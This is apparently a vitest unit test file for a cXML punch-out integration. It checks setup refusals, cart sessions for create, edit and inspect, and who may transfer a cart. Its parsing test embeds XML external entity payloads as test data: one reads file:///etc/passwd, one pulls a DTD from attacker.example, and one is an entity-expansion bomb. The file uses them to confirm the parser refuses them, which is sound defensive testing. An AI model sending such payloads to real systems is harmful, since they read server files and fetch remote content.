// Punch-out without a stack: the cXML setup's refusals (answered by the entry itself, before any ERP
// call or session), the session each operation opens, who may transfer a cart and what a transfer leaves. The entries that start sessions and carts that go
// back to the procurement system are in field.integration.test.ts.
import { Readable } from 'node:stream';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { describe, expect, it } from 'vitest';
import { PUNCH_OUT_INSPECT_ONLY } from '@mro/rules/punchout';
import { principalOf, unitGateway } from '../testing/unit.ts';
import { erpError, type FakeRoutes } from '../testing/fake-erp.ts';
import { erpFieldUser } from '../testing/erp-answers/field-user.ts';
import { loginAnswers } from '../testing/erp-answers/auth.ts';
import { erpCart, erpCartLines } from '../testing/erp-answers/cart.ts';
import type { PunchOutReturn } from '../auth/session.ts';
import { handlePunchOut } from './entry.ts';
import { DTD_REFUSED } from './cxml.ts';
import { SYSTEM, TRANSFER, setupRequest, xml, type Form, type Status } from './field-testing.ts';

type Answer = { status: number; headers: Record<string, string>; body: string };

/** POSTs `body` to /punchout/cxml in process (the ERP answering `routes`); the answer as the procurement system reads it. */
const postSetup = async (body: string, routes: FakeRoutes = {}) => {
  const gateway = await unitGateway(routes, { principal: null, config: { punchOutSystems: [SYSTEM] } });
  const request = Object.assign(Readable.from([Buffer.from(body)]), {
    method: 'POST',
    url: '/punchout/cxml',
    headers: { 'content-type': 'text/xml', host: 'store.example' },
    socket: { remoteAddress: '127.0.0.1' },
  }) as unknown as IncomingMessage;
  const answer: Answer = { status: 0, headers: {}, body: '' };
  const response = {
    setHeader(name: string, value: string) {
      answer.headers[name] = value;
      return response;
    },
    writeHead(status: number, headers: Record<string, string>) {
      Object.assign(answer, { status, headers: { ...answer.headers, ...headers } });
      return response;
    },
    end(text: string) {
      answer.body = text;
      return response;
    },
  } as unknown as ServerResponse;
  await handlePunchOut({ services: gateway.services, request, response, requestId: 'unit-request' }, '/punchout/cxml');
  const parsed = xml.parse(answer.body) as {
    cXML: { Response: { Status: Status; PunchOutSetupResponse?: { StartPage: { URL: string } } } };
  };
  const start = parsed.cXML.Response.PunchOutSetupResponse?.StartPage.URL;
  // The session the StartPage would open, as the ticket holds it.
  const session = start ? await gateway.services.sessions.takeTicket(start.split('/').pop()!) : null;
  return {
    status: answer.status,
    response: parsed.cXML.Response,
    erpCalls: gateway.calls,
    headers: answer.headers,
    session,
  };
};

// Pat Punchout (erp-sandbox personas): the punch-out user the system's ACME buyer logs in as.
const pat = erpFieldUser({ id: 7, username: 'punchout@acme.example', user_type: 'punchout', session_id: 'pat-cart' });
const patLogin = (): FakeRoutes => ({
  ...loginAnswers(pat),
  'POST /cart': ({ init }) =>
    erpCart(
      init.body.cart_lines!.map((line, i) => ({
        ...erpCartLines(1)[0]!,
        id: `l${i}`,
        erp: line.erp,
        quantity: line.quantity,
      })),
      { session_id: init.body.session_id },
    ),
});

describe('cXML punch-out', () => {
  it('refuses a wrong secret (401), an unknown buyer or return address (403) and bad XML (400), starting nothing', async () => {
    const wrong = await postSetup(setupRequest({ secret: 'guess' }));
    expect([wrong.status, wrong.response.Status['@_code']]).toEqual([401, '401']);
    expect(wrong.response.PunchOutSetupResponse).toBeUndefined();
    const stranger = await postSetup(setupRequest({ from: 'GLOBEX' }));
    expect([stranger.status, stranger.response.Status['@_code']]).toEqual([403, '403']);
    const elsewhere = await postSetup(setupRequest({ url: 'https://attacker.example/steal' }));
    expect([elsewhere.status, elsewhere.response.Status['@_code']]).toEqual([403, '403']);
    const broken = await postSetup('<cXML><Header>');
    expect([broken.status, broken.response.Status['@_code']]).toEqual([400, '400']);
    const noCookie = await postSetup(setupRequest({ cookie: '' }));
    expect(noCookie.status).toBe(400);
    // Nobody was logged in: the ERP was never asked.
    for (const refused of [wrong, stranger, elsewhere, broken, noCookie])
      expect(refused.response.PunchOutSetupResponse).toBeUndefined();
    expect([wrong, stranger, elsewhere, broken, noCookie].flatMap((refused) => refused.erpCalls)).toEqual([]);
  });
});

describe('the session each setup operation opens', () => {
  const returned = [
    { erp: 'ITEM-00007', quantity: 3 },
    { erp: 'ITEM-00009', quantity: 12, uom: 'BX' },
  ];

  it('create: a cart of the session’s own, never the user’s cart or another session’s', async () => {
    const first = await postSetup(setupRequest(), patLogin());
    const second = await postSetup(setupRequest({ items: returned }), patLogin());
    expect([first.status, second.status]).toEqual([200, 200]);
    expect(first.session!.punchOut!.operation).toBe('create');
    expect(first.session!.cartId).toMatch(/^pat-cart-punchout-[0-9a-f]{24}$/);
    expect(second.session!.cartId).toMatch(/^pat-cart-punchout-/);
    expect(second.session!.cartId).not.toBe(first.session!.cartId);
    // Lines sent with a create are not loaded: it starts empty (the cart is made on first use).
    expect([...first.erpCalls, ...second.erpCalls].filter((call) => call.route === 'POST /cart')).toEqual([]);
  });

  it('edit: the session’s cart starts with the returned lines, priced by the ERP', async () => {
    const edit = await postSetup(setupRequest({ operation: 'edit', items: returned }), patLogin());
    expect(edit.status).toBe(200);
    expect(edit.session!.punchOut!.operation).toBe('edit');
    const created = edit.erpCalls.filter((call) => call.route === 'POST /cart');
    expect(created.map((call) => call.body)).toEqual([
      {
        session_id: edit.session!.cartId,
        user_id: 7,
        order_source_type: 'web',
        cart_lines: [
          { erp: 'ITEM-00007', quantity: 3, uom: 'EA' },
          { erp: 'ITEM-00009', quantity: 12, uom: 'BX' },
        ],
      },
    ]);
  });

  it('inspect opens the lines read-only; bad lines or an unknown operation refuse the setup (400)', async () => {
    const inspect = await postSetup(setupRequest({ operation: 'inspect', items: returned }), patLogin());
    expect(inspect.session!.punchOut!.operation).toBe('inspect');
    const unknown = await postSetup(setupRequest({ operation: 'delete' }), patLogin());
    expect([unknown.status, unknown.response.Status['#text']]).toEqual([
      400,
      'Operation delete is not supported: create, edit or inspect.',
    ]);
    const zero = await postSetup(setupRequest({ operation: 'edit', items: [{ erp: 'X', quantity: 0 }] }), patLogin());
    expect(zero.response.Status['#text']).toBe('ItemOut 1 quantity must be a whole number from 1 to 999.');
    const gone = await postSetup(setupRequest({ operation: 'edit', items: returned }), {
      ...patLogin(),
      'POST /cart': () => {
        throw erpError(400, 'Item ITEM-00009 is no longer available.');
      },
    });
    expect([gone.status, gone.response.Status['#text']]).toEqual([
      400,
      "The requisition's lines cannot be opened: Item ITEM-00009 is no longer available.",
    ]);
    expect(gone.session).toBeNull();
  });
});

describe('who may transfer', () => {
  type Transfer = { transferCart: { form: Form | null; userErrors: { code: string; message: string }[] } };

  it('refuses buyers, punch-out users who logged in on the store’s own page, and guests', async () => {
    const buyer = await unitGateway({ 'GET /user/{id}': () => erpFieldUser() });
    expect((await buyer.run<Transfer>(TRANSFER)).data!.transferCart.userErrors[0]?.code).toBe('FORBIDDEN');
    // Pat Punchout, logged in on the store's page: a punch-out user with no procurement system to return to.
    const pat = principalOf({ userId: 7, username: 'punchout@acme.example' });
    const punchout = await unitGateway(
      { 'GET /user/{id}': () => erpFieldUser({ id: 7, user_type: 'punchout' }) },
      { principal: pat },
    );
    const own = (await punchout.run<Transfer>(TRANSFER)).data!.transferCart;
    expect(own.userErrors[0]?.message).toContain('not started from a procurement system');
    expect(own.form).toBeNull();
    const guest = await unitGateway({}, { principal: null });
    expect((await guest.run(TRANSFER)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });
});

describe('cXML parsing', () => {
  it("refuses a document that declares entities or a DTD subset (400, connection closed), reading cXML's own DOCTYPE", async () => {
    const withSubset = (subset: string) =>
      setupRequest().replace(
        '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">',
        `<!DOCTYPE cXML [${subset}]>`,
      );
    for (const body of [
      withSubset('<!ENTITY xxe SYSTEM "file:///etc/passwd">').replace('<BuyerCookie>', '<BuyerCookie>&xxe;'),
      withSubset('<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;'),
      withSubset('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'),
      withSubset(''),
    ]) {
      const refused = await postSetup(body);
      expect([refused.status, refused.response.Status['@_code'], refused.response.Status['#text']]).toEqual([
        400,
        '400',
        DTD_REFUSED,
      ]);
      expect(refused.headers.connection).toBe('close');
      expect(refused.erpCalls).toEqual([]);
    }
    // cXML's own DOCTYPE names the DTD by URL (never fetched) and passes: this one fails later, on its secret.
    expect((await postSetup(setupRequest({ secret: 'guess' }))).status).toBe(401);
  });
});

describe('what a transfer leaves', () => {
  type Transfer = {
    transferCart: { form: Form | null; lineCount: number; userErrors: { code: string; message: string }[] };
  };
  const session = (operation: PunchOutReturn['operation']): PunchOutReturn => ({
    system: SYSTEM.id,
    format: 'OCI',
    operation,
    url: 'https://buyer.example/oci-hook',
    target: '_top',
    buyerCookie: null,
    buyerIdentity: null,
    supplierIdentity: null,
  });
  const cartId = 'pat-cart-punchout-0123456789abcdef01234567';
  const punchedOut = (operation: PunchOutReturn['operation']) =>
    unitGateway(
      {
        'GET /user/{id}': () => pat,
        'GET /cart/{session_id}': () => erpCart(erpCartLines(3), { session_id: cartId }),
        'GET /punchout/unspsc': () => ({ version: 'UNSPSC v26', items: {} }),
        'POST /punchout-log': ({ init }) => ({
          log: { id: 1, user_id: 7, username: pat.username, created_on: '2026-11-27T10:00:00Z', ...init.body },
        }),
        'PUT /cart/{session_id}': () => erpCart([], { session_id: cartId }),
      },
      { principal: principalOf({ userId: 7, cartId, punchOut: session(operation) }) },
    );

  it('sends the lines once: the session’s cart is emptied after the form is built', async () => {
    const gateway = await punchedOut('create');
    const sent = (await gateway.run<Transfer>(TRANSFER)).data!.transferCart;
    expect(sent.lineCount).toBe(3);
    expect(gateway.callsTo('PUT /cart/{session_id}').map((call) => [call.path, call.body])).toEqual([
      [`/cart/${cartId}`, { cart_lines: [] }],
    ]);
    expect(gateway.callsTo('POST /punchout-log')[0]!.body).toMatchObject({ order_number: cartId.slice(-40) });
  });

  it('an inspect session changes nothing and sends nothing', async () => {
    const gateway = await punchedOut('inspect');
    const sent = (await gateway.run<Transfer>(TRANSFER)).data!.transferCart;
    expect(sent).toMatchObject({ form: null, userErrors: [{ code: 'FORBIDDEN', message: PUNCH_OUT_INSPECT_ONLY }] });
    const added = await gateway.run<{ addCartLines: { userErrors: { message: string }[] } }>(
      'mutation { addCartLines(input: { lines: [{ erp: "ITEM-00001", quantity: 1 }] }) { userErrors { message } } }',
    );
    expect(added.data!.addCartLines.userErrors).toEqual([{ message: PUNCH_OUT_INSPECT_ONLY }]);
    const removed = await gateway.run<{ removeCartLines: { userErrors: { message: string }[] } }>(
      'mutation { removeCartLines(input: { lineIds: ["line-1"] }) { userErrors { message } } }',
    );
    expect(removed.data!.removeCartLines.userErrors).toEqual([{ message: PUNCH_OUT_INSPECT_ONLY }]);
    expect(gateway.calls.filter((call) => !call.route.startsWith('GET '))).toEqual([]);
  });
});
